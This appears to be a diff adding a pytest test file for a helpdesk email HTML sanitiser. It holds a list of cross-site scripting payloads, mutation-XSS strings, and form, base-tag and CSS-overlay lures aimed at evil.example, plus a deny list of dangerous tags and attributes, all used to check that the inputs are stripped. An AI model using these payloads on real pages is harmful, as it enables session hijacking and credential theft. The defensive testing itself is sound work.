@@ -1,0 +1,106 @@
+"""What of a mail's HTML is shown."""
+
+from html.parser import HTMLParser
+
+import pytest
+from helpdesk_email.markup import is_bearable, sanitise, shows_something, text_of
+from hypothesis import given
+from hypothesis import strategies as st
+
+PIECES = [
+    *"<>\"'/= &;\t\x00", "img", "src", "onerror", "style", "position:fixed", "javascript:", "script", "svg", "a",
+    "href", "data:", "<!--", "-->", "table", "math", "title", "x", "background-color:red", "url(x)",
+]  # fmt: skip
+
+
+class Findings(HTMLParser):
+    """Every tag and attribute of some HTML."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: list[tuple[str, str]] = []
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes += [(name, value or "") for name, value in attrs]
+
+
+def assert_is_harmless(html: str) -> None:
+    found = Findings(html)
+    assert not found.tags & {
+        "script",
+        "style",
+        "iframe",
+        "form",
+        "input",
+        "button",
+        "base",
+        "meta",
+        "link",
+        "object",
+        "svg",
+    }
+    for name, value in found.attributes:
+        assert not name.startswith("on")
+        assert name not in {"srcset", "formaction", "class", "id", "name", "background"}
+        assert not value.strip().lower().startswith(("javascript:", "data:", "vbscript:"))
+        if name == "style":
+            assert not any(
+                word in value.lower() for word in ("position", "url(", "z-index", "margin", "expression", "@import")
+            )
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        '<a href="java\tscript:alert(1)">x</a>',
+        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+        '<form action="https://evil.example"><input name=p><button formaction=x>go</button></form>',
+        "<base href=//evil.example><meta http-equiv=refresh content=0>",
+        '<div style="position:fixed;z-index:9;margin-top:-900px;background:url(https://evil.example)">x</div>',
+        "<svg><style><img src=x onerror=alert(1)></style></svg>",
+        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+        '<img srcset="https://evil.example 1x" src="cid:a">',
+        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    ],
+)
+def test_attacks_are_taken_out(attack):
+    assert_is_harmless(sanitise(attack))
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=60).map("".join))
+def test_sanitised_html_is_harmless_and_stays_as_it_is(html):
+    once = sanitise(html)
+    assert_is_harmless(once)
+    assert sanitise(once) == once
+
+
+def test_what_mails_need_is_kept():
+    html = '<table bgcolor="#fff"><tbody><tr><td style="color:red">글</td></tr></tbody></table><img src="cid:a@b">'
+    assert sanitise(html) == html
+
+
+def test_text_of_deep_html_is_found():
+    assert text_of(sanitise("<div>" * 1_000 + "deep" + "</div>" * 1_000)) == "deep"
+
+
+@pytest.mark.parametrize(
+    ("html", "shows"), [("<p>&nbsp;\u200b</p><br>", False), ('<img src="cid:a">', True), ("<p>x</p>", True)]
+)
+def test_blank_html_shows_nothing(html, shows):
+    assert shows_something(sanitise(html)) is shows
+
+
+def test_unclosed_cells_and_paragraphs_are_not_deep():
+    assert is_bearable("<table>" + "<tr><td>x" * 50_000 + "</table>" + "<p>x" * 50_000)
+    assert is_bearable("<p><font><b>x</b></font></p>" * 50_000)
+
+
+def test_what_would_grow_in_the_parser_is_not_borne():
+    assert not is_bearable("<b></i>" * 5_000)
+    assert not is_bearable("<p>" + "".join(f"<b title={number}>" for number in range(400)) + "<p>x" * 2_000)
